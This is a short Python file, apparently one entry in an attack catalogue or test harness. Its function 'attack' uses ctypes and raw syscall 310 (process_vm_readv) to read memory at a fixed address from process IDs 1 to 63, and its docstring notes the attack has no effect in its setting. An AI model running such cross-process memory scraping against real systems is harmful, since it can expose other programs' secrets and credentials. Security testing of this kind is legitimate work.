"""Class: processes. Source: own find. Escape: the same, of every process that has a small number
in here. Teeth: none, the victim has no small number here.
"""

import ctypes
import struct

libc = ctypes.CDLL(None, use_errno=True)


def vectors(address, size):
    local = ctypes.create_string_buffer(size)
    return (
        local,
        struct.pack("<QQ", ctypes.addressof(local), size),
        struct.pack("<QQ", address, size),
    )


def attack(model, tokenizer, scene):
    found = []
    for pid in range(1, 64):
        local, here, there = vectors(scene["address"], 96)
        libc.syscall(310, pid, here, 1, there, 1, 0)
        found.append(local.raw)
    return found
